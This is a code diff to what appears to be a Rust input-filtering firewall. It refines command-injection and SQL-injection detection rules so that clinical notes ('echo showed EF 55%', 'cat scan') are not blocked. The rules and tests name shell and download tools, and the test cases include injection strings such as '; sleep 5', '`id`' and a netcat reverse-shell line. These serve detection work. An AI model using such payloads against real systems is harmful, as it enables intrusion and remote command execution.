@@ -237,11 +237,19 @@ const VALUE_RULES: &[Rule] = &[
         class: Class::Rce,
         // A command word after a shell separator, followed by what a shell reads next (a space,
         // the end, another separator): `&id=123` in a URL is a parameter, `; id` a command.
-        pattern: r"(?:[;|&`\n]|\$\(|\|\||&&)\s*(?:\.\s+)?['\x22]?(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|csh|python[0-9.]*|perl|ruby|php|ping|nslookup|dig|echo|chmod|chown|rm|touch|nmap|telnet|ifconfig|ipconfig|powershell|cmd|sleep|kill|ps|env|printenv|head|tail|find|xargs|awk|sed|base64|tftp|ftp|ssh|scp|sudo|su|useradd|crontab|systeminfo|tasklist|certutil|bitsadmin|mshta|rundll32|wmic|cscript|wscript|column|base32|flock|cpulimit)(?:\s|$|[;|&<>`'\x22)])",
+        // Words that are also prose or clinical words (`echo` for an echocardiogram, `cat`
+        // scan, `head`, `sleep`, `ID` for infectious disease) after a `;`, `&` or a line break
+        // and a space count only before what a shell reads (`; sleep 5`, `; cat /etc/…`,
+        // `; ping -c 1`): "ECG normal; echo showed EF 55%" is a note. Glued to the separator
+        // (`;id`) or after `|`, `&&`, `||`, a back-quote or `$(`, they count as before.
+        pattern: r"(?:[|`]|\$\(|\|\||&&)\s*(?:\.\s+)?['\x22]?(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|csh|python[0-9.]*|perl|ruby|php|ping|nslookup|dig|echo|chmod|chown|rm|touch|nmap|telnet|ifconfig|ipconfig|powershell|cmd|sleep|kill|ps|env|printenv|head|tail|find|xargs|awk|sed|base64|tftp|ftp|ssh|scp|sudo|su|useradd|crontab|systeminfo|tasklist|certutil|bitsadmin|mshta|rundll32|wmic|cscript|wscript|column|base32|flock|cpulimit)(?:\s|$|[;|&<>`'\x22)])|[;&\n](?:\.\s+)?['\x22]?(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|csh|python[0-9.]*|perl|ruby|php|ping|nslookup|dig|echo|chmod|chown|rm|touch|nmap|telnet|ifconfig|ipconfig|powershell|cmd|sleep|kill|ps|env|printenv|head|tail|find|xargs|awk|sed|base64|tftp|ftp|ssh|scp|sudo|su|useradd|crontab|systeminfo|tasklist|certutil|bitsadmin|mshta|rundll32|wmic|cscript|wscript|column|base32|flock|cpulimit)(?:\s|$|[;|&<>`'\x22)])|[;&\n]\s+(?:\.\s+)?['\x22]?(?:(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:whoami|uname|wget|curl|ncat|netcat|bash|sh|zsh|ksh|csh|python[0-9.]*|nslookup|chmod|chown|nmap|telnet|ifconfig|ipconfig|powershell|printenv|xargs|awk|base64|tftp|ftp|scp|sudo|useradd|crontab|systeminfo|tasklist|certutil|bitsadmin|mshta|rundll32|wmic|cscript|wscript|base32|cpulimit)|/?(?:usr/)?(?:local/)?s?bin/(?:cat|id|ping|dig|echo|touch|cmd|sleep|kill|ps|env|head|tail|find|su|column|flock|sed|ssh|rm|ls|nc|php|ruby|perl))(?:\s|$|[;|&<>`'\x22)])|[;&\n]\s+(?:\.\s+)?['\x22]?(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:cat|id|ping|dig|echo|touch|cmd|sleep|kill|ps|env|head|tail|find|su|column|flock|sed|ssh|rm|ls|nc|php|ruby|perl)['\x22]?(?:\s+(?:-|/|~/|\./|\$|\d|['\x22<>|&`]|[a-z0-9_-]+\.[a-z0-9]{1,4}(?:\s|$))|[<>|`])",
     },
     Rule {
         id: "rce-110",
         class: Class::Rce,
+        // `${IFS}`, back-quoted text (a shell runs it; MySQL quotes identifiers so — a
+        // note's Markdown `` `code` `` is refused too: a route whose notes take Markdown
+        // excludes `rce-110` on that field), `$(…)`, `$SHELL -c`.
         pattern: r"\$\{ifs\}|\$ifs\b|`[^`]{2,}`|\$\([a-z/][^)]*\)|\$(?:shell|bash)\s+-c\b",
     },
     Rule {
@@ -1699,15 +1707,21 @@ fn libinjection_sqli(decoded: &str) -> bool {
     if !breaks_out {
         return false;
     }
-    // A percentage (`HbA1c 5.6% (normal)`, `pain 50% (severe)`) reads to libinjection as the
-    // modulo operator before a parenthesis, which is its fingerprint of an injected
-    // expression. A `%` after a digit and before a space or the end is a unit, not an
-    // operator (SQL's `a % b` has a space before it, `1%(select…)` none after): read as
-    // such, it is left out of what libinjection sees.
+    // A percentage (`HbA1c 5.6% (normal)`, `pain 50% (severe)`, `6.2%（基準値内）`) reads to
+    // libinjection as the modulo operator before a parenthesis, which is its fingerprint of
+    // an injected expression. A `%` after a digit and before a space, the end, punctuation
+    // or a parenthesis holding text that is not ASCII is a unit, not an operator (SQL's
+    // `a % b` has a space before it, and `1%(select…)` ASCII after it): read as such, it is
+    // left out of what libinjection sees.
     let percent = |at: usize| {
         at > 0
             && bytes[at - 1].is_ascii_digit()
-            && bytes.get(at + 1).is_none_or(u8::is_ascii_whitespace)
+            && match bytes.get(at + 1) {
+                None => true,
+                Some(b) if b.is_ascii_whitespace() || b",.;:)/".contains(b) => true,
+                Some(b'(') => bytes.get(at + 2).is_some_and(|b| !b.is_ascii()),
+                Some(_) => false,
+            }
     };
     if memchr::memchr_iter(b'%', bytes).any(percent) {
         let without: Vec<u8> = bytes
@@ -2310,6 +2324,13 @@ mod tests {
         ("*{7*7}", "ssti"),
         ("x = 1%(select 1)", "sqli"),
         ("dl('x.so')", "php"),
+        ("; sleep 5", "rce"),
+        ("; echo $((1+1))", "rce"),
+        ("x;id", "rce"),
+        ("x | id", "rce"),
+        ("`id`", "rce"),
+        ("`sleep 5`", "rce"),
+        ("; /usr/bin/id", "rce"),
         ("admin\\' or glob (id,id);", "sqli"),
         ("foo=\";\\n.shell nc 10.10.10.1 6666 -e sh", "rce"),
         ("() {", "rce"),
@@ -2884,6 +2905,10 @@ mod tests {
             // Health text that libinjection and php-130 read as code: a percentage before a
             // parenthesis, a unit before one.
             "HbA1c 5.6% (normal)",
+            "HbA1c 6.2%（基準値内）",
+            "ECG normal; echo showed EF 55%",
+            "Tests: ECG; echo; cat scan",
+            "Dx: HTN; ID consult; sleep study next week",
             "pain 50% (severe), improving",
             "blood glucose 110 mg/dL (fasting)",
             "Data\r\nThe readings of the week",
